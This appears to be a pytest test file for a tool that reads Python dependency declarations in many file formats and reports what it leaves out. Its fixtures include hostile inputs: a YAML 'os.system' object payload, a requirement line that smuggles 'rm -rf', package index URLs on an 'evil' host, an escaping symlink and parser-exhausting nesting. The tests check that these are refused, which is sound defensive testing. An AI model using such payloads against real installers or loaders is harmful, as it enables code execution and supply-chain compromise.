"""Tests what a program declares: each form of each file, and what is said of what is not read."""

import json
import os
import sys

import pytest

from tf1grad.programs.period import folder as period_folder, layer, sources
from tf1grad.run.packages import (
    conda_files,
    declared,
    declaring_files,
    fetching,
    plan,
)

FILES = {
    "requirements.txt": (
        "# text\nKeras==2.2.4\ntensorflow-gpu==1.12.0\nsix>=1.0,<1.2  # old\nextended[extra]==0.10; python_version > '3'\n"
        "gone; python_version < '3'\npytz>=2011k\nlong \\\n  >=1\nhashed==1 --hash=sha256:00\n",
        ["Keras==2.2.4", "six<1.2,>=1.0", "extended[extra]==0.10", "pytz", "long>=1", "hashed==1"],
    ),
    "setup.py": (
        "from setuptools import setup\nREQUIRED = ['tqdm']\nrequired = open('requirements.txt').readlines()\n"
        "setup(name='x', install_requires=REQUIRED + ['gym==0.10', 'tensorflow>=1.4'])\n",
        ["gym==0.10", "tqdm"],
    ),
    "setup.py by dictionaries": (
        "ALL = {'name': 'x', 'more': {'install_requires': ['gym==0.10', 'tqdm']}}\nsetup(**ALL['more'])\n",
        ["gym==0.10", "tqdm"],
    ),
    "setup.cfg": ("[options]\ninstall_requires =\n  gym==0.10\n  tqdm\n", ["gym==0.10", "tqdm"]),
    "pyproject.toml": (
        "[project]\ndependencies = ['gym==0.10', 'numpy']\n[tool.poetry.dependencies]\npython = '^3.6'\n"
        "tqdm = '^4.1'\nplain = {version = '*'}\nexact = '1.2'\n",
        ["gym==0.10", "tqdm<5,>=4.1", "plain", "exact==1.2"],
    ),
    "environment.yml": (
        "name: x\nchannels:\n  - defaults\ndependencies:\n  - python=3.6\n  - h5py=2.8.0=py36\n  - six=1.14.0=py_0\n"
        "  - tk=8.6.8=ha441bb4_0\n  - mkl=2019.4=233\n  - conda-forge::gym=0.10\n  - nltk >=3.1,<3.3  # text\n"
        "  - pip:\n    - joblib==0.13\n    - 'tqdm>=4'\nvariables:\n  - stranger\n",
        ["h5py==2.8.0", "six==1.14.0", "gym==0.10.*", "nltk<3.3,>=3.1", "joblib==0.13", "tqdm>=4"],
    ),
    "Pipfile": ("[packages]\ngym = '==0.10'\ntqdm = '*'\n", ["gym==0.10", "tqdm"]),
    "Pipfile.lock": (
        json.dumps(
            {
                "_meta": {"sources": [{"name": "pypi", "url": "https://pypi.org/simple"}]},
                "default": {
                    "gym": {"version": "==0.10", "index": "pypi", "extras": ["atari"]},
                    "gone": {"version": "==1", "markers": "python_version < '3'"},
                },
                "develop": {"black": {"version": "==19"}},
            }
        ),
        ["gym[atari]==0.10"],
    ),
    "train.py": (
        "import gym\n# /// script\n# requires-python = '>=3.6'\n# dependencies = [\n#   'gym==0.10',\n#   'tqdm',\n"
        "# ]\n# ///\n",
        ["gym==0.10", "tqdm"],
    ),
}


def requirements(path):
    """Returns what a program declares, as text without conditions."""
    found = plan.own_requirements(declared.read(declaring_files.find_declaring_files(path)))
    return [str(each).partition(";")[0] for each in found]


def notes(path):
    """Returns what is said of what is not read as it is written."""
    return [str(each) for each in declared.read(declaring_files.find_declaring_files(path)).notes]


@pytest.mark.parametrize("name", FILES)
def test_each_form(program, name):
    text, expected = FILES[name]
    path = program({name.partition(" by ")[0]: text})
    path = os.path.join(path, name) if name.endswith("train.py") else path
    assert sorted(requirements(path)) == sorted(expected)


def test_versions_of_poetry(program):
    wanted = {
        "^1.2": ">=1.2,<2",
        "^0.10.1": ">=0.10.1,<0.11",
        "~1.2.3": ">=1.2.3,<1.3",
        "~1": ">=1,<2",
    }
    lines = [f"p{number} = '{version}'" for number, version in enumerate(wanted)]
    lines += ["old = {version = '1', python = '<3'}", "extra = {version = '1', optional = true}"]
    path = program({"pyproject.toml": "\n".join(["[tool.poetry.dependencies]", *lines])})
    found = [declared.Requirement(each).specifier for each in requirements(path)]
    assert found == [declared.Requirement(f"p{bounds}").specifier for bounds in wanted.values()]


@pytest.mark.parametrize("group, taken", [("", "gym==0.10"), ("default-groups = ['train']", "six")])
def test_dependency_groups_that_uv_installs_by_default(program, group, taken):
    path = program(
        {
            "pyproject.toml": f"[tool.uv]\n{group}\n[dependency-groups]\ntrain = ['six']\n"
            "dev = [{include-group = 'base'}]\nbase = ['gym==0.10']\n"
        }
    )
    assert requirements(path) == [taken]
    left = "train" if taken != "six" else "dev, base"
    assert f"[dependency-groups] {left} (" in notes(path)[0]


ENCODINGS = ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"]


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_encodings_of_requirements(program, encoding):
    path = program({})
    text = "gym==0.10  # \u00e9\r\nsix\r\n".encode(encoding)
    with open(os.path.join(path, "requirements.txt"), "wb") as file:
        file.write(text)
    assert requirements(path) == ["gym==0.10", "six"] and notes(path) == []


def test_a_coding_line_counts(program):
    path = program({})
    with open(os.path.join(path, "requirements.txt"), "wb") as file:
        file.write("# coding: latin-1\n# caf\u00e9\ngym\n".encode("latin-1"))
    assert requirements(path) == ["gym"]


def test_a_notebook_declares_what_its_cells_install(program):
    cells = [{"cell_type": "code", "source": ["!pip install -q gym==0.10 'tqdm'\n", "import gym"]}]
    path = program({"a.ipynb": json.dumps({"cells": cells}), "requirements.txt": "six\n"})
    assert requirements(f"{path}/a.ipynb") == ["gym==0.10", "tqdm", "six"]


def test_a_cell_that_installs_a_file_does_not_name_a_package(program):
    lines = [
        "!pip install -q -r more.txt -U\n",
        "!{sys.executable} -m pip install 'gym==0.10; python_version > \"3\"' && echo done\n",
        "%pip install -t place tqdm > /dev/null\n",
        "!pip install -i http://evil six\n",
    ]
    cells = [
        {"cell_type": "code", "source": lines},
        {"cell_type": "markdown", "source": "!pip install stranger"},
    ]
    path = program({"a.ipynb": json.dumps({"cells": cells}), "more.txt": "nltk\n"})
    assert requirements(f"{path}/a.ipynb") == ["nltk", "gym==0.10", "tqdm", "six"]
    assert ["evil" in each for each in notes(f"{path}/a.ipynb")] == [True]


@pytest.mark.parametrize("content", ["[]", "{", '{"cells": 1}', '{"cells": [1]}', "[" * 10**5])
def test_a_notebook_that_is_none_declares_nothing(program, content):
    path = program({"a.ipynb": content})
    assert requirements(f"{path}/a.ipynb") == []


def test_included_files_are_read_up_to_the_repository(program):
    path = program(
        {
            "top/.git/HEAD": "",
            "top/in/requirements.txt": "-r more/base.txt\n--requirement=../above.txt\n-c ../bounds.txt\n"
            "-r ../../outside.txt\n-r missing.txt\n-r https://evil/x.txt\n",
            "top/in/more/base.txt": "six\n-r ../requirements.txt\n",
            "top/above.txt": "nltk\n",
            "top/bounds.txt": "six<1.12\nother==1\n",
            "outside.txt": "gym\n",
        }
    )
    assert requirements(f"{path}/top/in") == ["six<1.12", "nltk"]
    said = notes(f"{path}/top/in")
    assert said[0] == (
        f"left out: -r ../../outside.txt (requirements.txt): it is outside of {path}/top"
    )
    assert said[1] == "left out: -r missing.txt (requirements.txt): the file does not exist"
    assert "https://evil/x.txt" in said[2] and len(said) == 3


def test_a_file_without_permission_is_named(program, monkeypatch):
    path = program({"requirements.txt": "six\n"})
    monkeypatch.setattr(os, "access", lambda path, mode: False)
    assert requirements(path) == []
    assert notes(path) == ["left out: requirements.txt: there is no permission to read it"]


def test_a_link_out_of_the_repository_is_not_read(program):
    path = program({"top/.git/HEAD": "", "secret": "gym\n"})
    os.symlink(f"{path}/secret", f"{path}/top/requirements.txt")
    assert requirements(f"{path}/top") == [] and "outside" in notes(f"{path}/top")[0]


def test_a_huge_file_is_not_read(program):
    path = program({"requirements.txt": "gym\n" * 300_000})
    assert requirements(path) == [] and "1.2 MB" in notes(path)[0]


def test_the_nearest_folder_up_to_the_repository_declares(program):
    path = program({".git/HEAD": "", "requirements.txt": "six\n", "a/b/c/train.py": ""})
    assert requirements(f"{path}/a/b/c/train.py") == ["six"]
    program({"a/b/setup.cfg": "[options]\ninstall_requires = gym\n"})
    assert requirements(f"{path}/a/b/c/train.py") == ["gym"]


def test_without_a_repository_only_the_folder_above_is_looked_at(program):
    path = program({"requirements.txt": "six\n", "a/b/train.py": ""})
    assert requirements(f"{path}/a") == ["six"] and requirements(f"{path}/a/b") == []


NO_PACKAGES = [
    "-e git+https://host/x.git#egg=x",
    "-e .",
    ".",
    "./folder",
    "folder/sub",
    "x-1.0-py3-none-any.whl",
    "requirements.txt",
    "x @ https://host/x.whl",
    "git+https://host/x.git",
    "six;rm -rf x",
    "-rx",
    "--index-url http://evil",
    "--extra-index-url=http://evil",
    "-f http://evil",
    "--pre",
]


def test_lines_that_are_no_package_with_a_version_are_said(program):
    path = program({"requirements.txt": "\n".join(["gym", *NO_PACKAGES])})
    assert requirements(path) == ["gym"]
    said = notes(path)
    assert [each.startswith(f"left out: {line} (") for each, line in zip(said, NO_PACKAGES)] == [
        True
    ] * len(NO_PACKAGES)
    assert sum("the index that you have configured" in each for each in said) == 3


def test_a_version_of_then_that_is_none_today_is_said(program):
    path = program({"requirements.txt": "pytz>=2011k\n"})
    assert notes(path) == [
        "pytz>=2011k (requirements.txt): 'pytz>=2011k' is no version today, so any release of pytz is taken"
    ]


def test_lines_on_one_package_count_together_and_the_first_file_decides(program):
    path = program(
        {
            "requirements.txt": "gym==0.10\ngym[atari]==0.11\nsix\n",
            "setup.cfg": "[options]\ninstall_requires =\n  gym==0.9\n  six==1.10\n",
        }
    )
    assert requirements(path) == ["gym[atari]==0.10,==0.11", "six==1.10"]


def test_checksums_are_read(program):
    digest = 64 * "0"
    lock = {"default": {"six": {"version": "==1", "hashes": [f"sha256:{digest}"]}}}
    path = program(
        {
            "requirements.txt": f"gym==0.10 \\\n  --hash=sha256:{digest} \\\n  --hash=md5:00\nnltk --hash=md5:00\n",
            "Pipfile.lock": json.dumps(lock),
        }
    )
    found = declared.read(declaring_files.find_declaring_files(path))
    assert found.hashes == {"gym": [digest], "six": [digest]}
    assert [str(each) for each in found.requirements] == ["gym==0.10", "six==1"]
    assert "nltk" in notes(path)[0]


# What a table names outside of the index: the index may have a stranger's package of that name.
ELSEWHERE = {
    "Pipfile": "[[source]]\nname = 'a'\nurl = 'https://pypi.org/simple'\n[packages]\n"
    "x = {git = 'https://host/x.git'}\ny = {path = '.', editable = true}\nz = {version = '*', index = 'b'}\ngym = '*'\n",
    "pyproject.toml": "[tool.poetry.dependencies]\nx = {git = 'https://host/x.git'}\ny = {path = '.'}\n"
    "z = {version = '*', source = 'b'}\ngym = '*'\n",
    "pyproject.toml of uv": "[project]\ndependencies = ['x>=1', 'y', 'Z', 'gym']\n"
    "[tool.uv.sources]\nx = {git = 'https://host/x.git'}\ny = {path = '.'}\nz = {index = 'b'}\n",
}


@pytest.mark.parametrize("name", ELSEWHERE)
def test_a_package_from_elsewhere_is_not_asked_of_the_index(program, name):
    path = program({name.split()[0]: ELSEWHERE[name]})
    assert requirements(path) == ["gym"]
    said = notes(path)
    assert [each[len("left out: ")].lower() for each in said] == ["x", "y", "z"]
    if not name.endswith("uv"):  # there it names another section than that of the requirement
        assert said[0].startswith('left out: x = {git = "https://host/x.git"} (')


def _setup(value, before=""):
    return f"import sys\nfrom setuptools import setup\n{before}\nsetup(name='x', install_requires={value})\n"


# A setup.py, what is read of it, and words of the sentence about the rest.
SETUPS = {
    "texts that are added": (_setup('["color" + "ama==0.4.0", "gym"]'), ["gym"], '"color" + "ama'),
    "an f-string": (_setup("[f'gym=={V}', 'six']", "V = 1"), ["six"], "f'gym=={V}' (line 4)"),
    "a format": (_setup("['gym==%s' % 1, 'six']"), ["six"], "'gym==%s' % 1"),
    "another name": (_setup("deps", "deps = ['gym==0.10']"), ["gym==0.10"], ""),
    "of the documentation": (
        _setup("['gym']", "docs_requirements = ['sphinx', 'nltk']"),
        ["gym"],
        "docs_requirements (line 3)",
    ),
    "pins of no use": (_setup("['gym']", "pins = ['nltk==3.1']"), ["gym"], "pins (line 3)"),
    "a changed list": (_setup("deps", "deps = ['gym']\ndeps.append(sys.argv[0])"), [], "deps"),
    "an added list": (_setup("deps", "deps = ['gym']\ndeps += ['x']"), [], "deps (line 5)"),
    "behind a condition": (
        _setup("deps", "deps = ['gym']\nif sys.platform == 'x':\n    deps = ['nltk']"),
        [],
        "deps",
    ),
    "a conditional value": (_setup("['gym'] if sys.argv else ['x']"), [], "['gym'] if"),
    "a conditional call": (
        "from setuptools import setup\nif A:\n    setup(install_requires=['gym'])\n",
        [],
        "['gym'] (line 3)",
    ),
    "a file": (_setup("open('requirements.txt').read().split()"), [], "open('requirements.txt')"),
    "a comprehension": (_setup("[each for each in ['gym']]"), [], "[each for each"),
    "a starred list": (_setup("[*deps, 'gym']", "deps = ['x']"), ["gym"], "*deps"),
    "in main": (
        "from setuptools import setup\nif __name__ == '__main__':\n    setup(install_requires='gym\\nsix')\n",
        ["gym", "six"],
        "",
    ),
    "a dictionary": (
        "from setuptools import setup\nkw = {'install_requires': ['gym']}\nsetup(**kw)\n",
        ["gym"],
        "",
    ),
    "Python 2": ("print 'x'\nsetup(install_requires=['gym'])\n", [], "cannot be parsed"),
    "deep": ("x = " + "(" * 5000, [], "left out: setup.py: it"),
    "a deep sum": (_setup("+".join(["['gym']"] * 20_000)), None, ""),
}


@pytest.mark.parametrize("name", SETUPS)
def test_only_lists_of_texts_of_a_setup_are_read(program, name):
    text, expected, words = SETUPS[name]
    path = program({"setup.py": text})
    found, said = requirements(path), notes(path)
    if expected is not None:
        assert found == expected
        assert [words in each for each in said] == [True] * bool(words)


# A hostile environment.yml, and words of the sentence about it.
ENVIRONMENTS = {
    "git": ("dependencies:\n  - pip:\n    - git+https://host/x.git\n", "git+https://host/x.git"),
    "an object": (
        "dependencies: !!python/object/apply:os.system ['touch executed']\n",
        "left out: touch",
    ),
    "no YAML": ("dependencies: [\n", "it is not YAML"),
    "no list": ("variables:\n  x: 1\n", "no list of dependencies"),
    "deep": ("[" * 3_000, "it is not YAML"),
    "merged aliases": (
        "a: &a {k: v}\n"
        + "".join(
            f"{new}: &{new}\n  <<: [{', '.join([f'*{old}'] * 9)}]\n"
            for old, new in zip("abcdefghi", "bcdefghij")
        )
        + "dependencies: []\n",
        "",
    ),
    "a bracket": ("dependencies:\n  - \"x[version='>=1']\"\n", "x[version"),
}


@pytest.mark.parametrize("name", ENVIRONMENTS)
def test_a_hostile_environment_is_said(program, name):
    text, words = ENVIRONMENTS[name]
    path = program({"environment.yml": text})
    assert [words in each for each in notes(path)] == [True] * bool(words)
    assert not os.path.exists(os.path.join(path, "executed"))


def test_lines_below_pip_are_not_of_conda(program):
    lines = "dependencies:\n  - six\n  - gym\n  - pip:\n    - gym==0.10\n    - -r more.txt\n"
    path = program({"environment.yml": lines, "more.txt": "nltk\n"})
    found = declared.read(declaring_files.find_declaring_files(path))
    assert found.of_conda == {"six"}
    assert requirements(path) == ["six", "gym==0.10", "nltk"]


@pytest.mark.period
def test_the_yaml_of_the_layer_is_not_left_to_the_program(monkeypatch):
    for name in [each for each in sys.modules if each.partition(".")[0] == "yaml"]:
        monkeypatch.delitem(sys.modules, name)
    monkeypatch.setattr(conda_files, "is_installed", lambda name: False)
    before = list(sys.path)
    assert len(list(conda_files.read("dependencies: [gym]"))) == 1
    assert "yaml" not in sys.modules and sys.path == before


def test_without_yaml_and_a_network_it_is_an_error(monkeypatch, tmp_path):
    monkeypatch.setattr(conda_files, "is_installed", lambda name: False)
    monkeypatch.delitem(sys.modules, "yaml", raising=False)
    monkeypatch.setenv(period_folder.VARIABLE, str(tmp_path))
    monkeypatch.setenv(sources.OFFLINE, "1")
    monkeypatch.setattr(layer, "missing_parts", list)
    with pytest.raises(sources.Failed, match="Keras"):
        list(conda_files.read("dependencies: [gym]"))


def test_offline_a_file_that_nothing_reads_leaves_the_installed_packages(
    program, monkeypatch, tmp_path, capsys
):
    monkeypatch.setattr(conda_files, "is_installed", lambda name: False)
    monkeypatch.delitem(sys.modules, "yaml", raising=False)
    monkeypatch.setenv(period_folder.VARIABLE, str(tmp_path))
    monkeypatch.setenv(sources.OFFLINE, "1")
    monkeypatch.setattr(layer, "missing_parts", list)
    path = program({"environment.yml": "dependencies: [gym]\n"})
    wanted = fetching.find_wanted(path, "2.1.3")
    assert fetching.put_on_path(wanted, 0) == []
    assert (
        "environment.yml are the installed ones, since TF1GRAD_OFFLINE" in capsys.readouterr().err
    )
